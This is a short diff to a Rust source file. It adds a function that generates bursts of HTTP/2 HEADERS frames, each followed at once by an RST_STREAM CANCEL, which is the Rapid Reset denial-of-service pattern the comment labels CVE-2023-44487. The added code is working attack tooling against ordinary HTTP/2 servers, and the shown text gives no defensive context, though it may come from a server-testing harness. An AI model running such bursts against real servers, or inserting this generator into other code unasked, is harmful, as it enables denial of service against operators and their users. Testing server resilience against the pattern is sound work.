@@ -54,3 +54,15 @@ pub fn get_block(authority: &str, path: &str, headers: &[(&str, &str)]) -> Vec<u
     }
     out
 }
+
+/// 100 streams opened and cancelled at once (CVE-2023-44487), stream ids from `1 + 200 * batch`:
+/// HEADERS carrying `block` with END_STREAM, then RST_STREAM CANCEL, for each.
+pub fn rapid_reset_burst(batch: u32, block: &[u8]) -> Vec<u8> {
+    let mut bytes = Vec::new();
+    for i in 0..100u32 {
+        let id = 1 + 2 * (batch * 100 + i);
+        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, block));
+        bytes.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes())); // CANCEL
+    }
+    bytes
+}
